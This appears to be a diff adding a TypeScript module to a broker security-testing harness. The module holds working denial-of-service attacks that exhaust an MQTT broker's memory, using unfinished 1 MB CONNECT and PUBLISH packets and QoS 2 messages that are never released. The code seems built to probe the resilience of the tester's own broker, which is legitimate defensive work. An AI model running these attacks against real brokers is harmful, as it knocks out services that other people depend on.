@@ -1,0 +1,68 @@
+/** Messages that are begun and never ended, and what a broker keeps for them. */
+import { publishPacket } from "../../kit/wire.ts";
+import type { Attack } from "../attack.ts";
+import { bytesOf, open, openDevice } from "../wire.ts";
+
+const megabyte = 1024 * 1024;
+const holdMs = 2000;
+
+/** All of a packet but its last byte. */
+const unfinished = (packet: Buffer) => packet.subarray(0, -1);
+
+/** A CONNECT whose header announces more than any can have. */
+const hugeConnect = Buffer.concat([Buffer.from([0x10, 0x80, 0x80, 0x40]), Buffer.alloc(megabyte)]);
+
+export const memoryAttacks: readonly Attack[] = [
+  {
+    name: "connect-unfinished",
+    says: "sends CONNECT packets of 1 MB without their last byte",
+    who: "anybody who reaches the port",
+    costs: "1 MB each, no credentials",
+    auth: true,
+    few: 0,
+    many: 1000,
+    async run(target, times) {
+      for (let i = 0; i < times; i++) (await open(target, target.mqttPort)).write(unfinished(hugeConnect));
+      await Bun.sleep(holdMs);
+      return times;
+    },
+  },
+  {
+    name: "publish-unfinished",
+    says: "sends messages of 1 MB without their last byte",
+    who: "one registered device",
+    costs: "1 MB each",
+    auth: true,
+    few: 0,
+    many: 700,
+    async run(target, times) {
+      const half = unfinished(bytesOf(publishPacket(1, "x".repeat(megabyte), { topic: ownTopic(target) })));
+      for (let i = 0; i < times; i++) (await openDevice(target, `half-${i}`)).write(half);
+      await Bun.sleep(holdMs);
+      return times;
+    },
+  },
+  {
+    name: "qos2-unreleased",
+    says: "sends messages of 1 MB with QoS 2 and never PUBREL",
+    who: "one registered device",
+    costs: "1 MB each",
+    auth: true,
+    few: 0,
+    many: 700,
+    async run(target, times) {
+      const device = await openDevice(target, "qos2");
+      for (let i = 1; i <= times; i++) {
+        if (device.destroyed) break;
+        const packet = bytesOf(publishPacket(i, "x".repeat(megabyte), { qos: 2, topic: ownTopic(target) }));
+        if (!device.write(packet)) await new Promise((done) => device.once("drain", done));
+      }
+      await Bun.sleep(holdMs);
+      return times;
+    },
+  },
+];
+
+function ownTopic({ own }: Parameters<Attack["run"]>[0]): string {
+  return `tenant/${own.tenantId}/device/${own.deviceId}/telemetry`;
+}
